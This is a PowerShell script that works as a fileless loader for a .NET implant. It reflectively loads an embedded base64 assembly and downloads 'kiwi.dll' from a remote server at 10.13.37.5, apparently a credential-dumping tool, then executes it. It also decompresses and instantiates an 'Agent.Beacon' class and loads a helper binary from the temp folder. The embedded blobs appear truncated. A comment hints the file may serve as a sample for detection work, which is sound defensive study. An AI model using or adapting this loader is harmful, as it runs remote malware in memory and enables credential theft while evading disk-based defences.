# in-memory loader for the .NET implant; nothing touches disk
param(
    [string]$Server = 'https://10.13.37.5:8443'
)

$blob = 'TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA4fug4AtAnNIbgBTM0hVGhpcyBwcm9ncmFt'
$asm = [System.Reflection.Assembly]::Load([Convert]::FromBase64String($blob))

$second = [Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData("$Server/modules/kiwi.dll"))

$z = 'H4sIAAAAAAAEAO29B2AcSZYlJi9tynt/SvVK1+B0oQiAYBMk2JBAEOzBiM3mkuwdaUcjKasqgcplVmVdZhZAzO2dvPfee++999577733'
$in = New-Object System.IO.MemoryStream(, [Convert]::FromBase64String($z))
$gz = New-Object System.IO.Compression.GZipStream($in, [IO.Compression.CompressionMode]::Decompress)
$out = New-Object System.IO.MemoryStream
$gz.CopyTo($out)
$third = [AppDomain]::CurrentDomain.Load($out.ToArray())

$local = [Reflection.Assembly]::Load([IO.File]::ReadAllBytes("$env:TEMP\helper.bin"))

# loading by name is ordinary and not what we are after
[void][Reflection.Assembly]::LoadWithPartialName('System.Windows.Forms')
Add-Type -AssemblyName System.IO.Compression

$asm.EntryPoint.Invoke($null, @(, [string[]]@()))
$second.GetType('Kiwi.Program').GetMethod('Main').Invoke($null, @(, [string[]]@('coffee')))
$third.CreateInstance('Agent.Beacon') | Out-Null
$local.GetTypes() | Out-Null
